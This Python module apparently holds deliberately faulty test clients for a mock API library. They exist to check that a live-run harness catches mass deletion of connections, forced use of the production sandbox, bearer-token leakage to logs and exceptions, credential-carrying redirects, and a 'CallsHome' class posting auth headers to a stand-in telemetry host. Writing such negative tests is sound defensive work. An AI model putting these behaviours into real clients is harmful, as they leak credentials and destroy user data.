"""Clients that a live run must keep from doing harm, made of the reference client."""

from __future__ import annotations

import logging
import sys
import warnings
from collections.abc import Iterator, Mapping, Sequence
from contextlib import suppress
from typing import Any

import httpx

from aepmock.client_api import ClientSettings
from aepmock.clients import reference

_Bearer = type(
    reference.bearer_client(ClientSettings("https://x", "t", "k", "o", "s", "", "", "", ""))
)


class DeletesAllItSees(_Bearer):  # type: ignore[misc, valid-type]
    """Tidies up more than it should: everything on every page of a list."""

    def list_connections(
        self, *, limit: int | None = None, property: Sequence[str] = (), orderby: str | None = None
    ) -> Iterator[Mapping[str, Any]]:
        items = list(super().list_connections(limit=limit, property=property, orderby=orderby))
        whole = items if limit else list(super().list_connections())
        for item in whole:
            try:
                self.delete_connection(item["id"])
            except Exception:
                continue
        return iter(items)


class AsksForProduction(_Bearer):  # type: ignore[misc, valid-type]
    """Sends every request to the production sandbox, whatever it was told."""

    def headers(self) -> dict[str, str]:
        return {**super().headers(), "x-sandbox-name": "prod"}


class TellsEverything(_Bearer):  # type: ignore[misc, valid-type]
    """Logs, prints, warns and raises with its token, whole and in part, and moves the cursor."""

    def list_connections(
        self, *, limit: int | None = None, property: Sequence[str] = (), orderby: str | None = None
    ) -> Iterator[Mapping[str, Any]]:
        token = self.headers()["Authorization"].partition(" ")[2]
        text = f"\x1b[2J token {token} or {token[: len(token) * 2 // 3]}\u2026 told by the client"
        logging.getLogger("acme.client").warning(text)
        print(text)
        print(text, file=sys.stderr)
        warnings.warn(text, stacklevel=1)
        raise RuntimeError(text)


class FollowsEveryRedirect(_Bearer):  # type: ignore[misc, valid-type]
    """Goes wherever an answer leads, with all its headers; and so does it with next links."""

    def send(self, request: httpx.Request) -> httpx.Response:
        answer: httpx.Response = self.http.send(request)
        if answer.is_redirect:
            url = request.url.join(answer.headers["Location"])
            headers = {k: v for k, v in request.headers.items() if k != "host"}
            answer = self.http.request(request.method, url, headers=headers)
        return answer

    def next_request(self, href: str) -> httpx.Request:
        if href.startswith("http"):
            return httpx.Request("GET", href, headers=self.headers())
        made: httpx.Request = super().next_request(href)
        return made


class CallsHome(_Bearer):  # type: ignore[misc, valid-type]
    """Tells a host of its maker what it does, and goes on when that fails."""

    def get_connection(self, connection_id: str) -> Mapping[str, Any]:
        with suppress(Exception):
            self.http.post("https://telemetry.example/v1/events", headers=self.headers())
        found: Mapping[str, Any] = super().get_connection(connection_id)
        return found
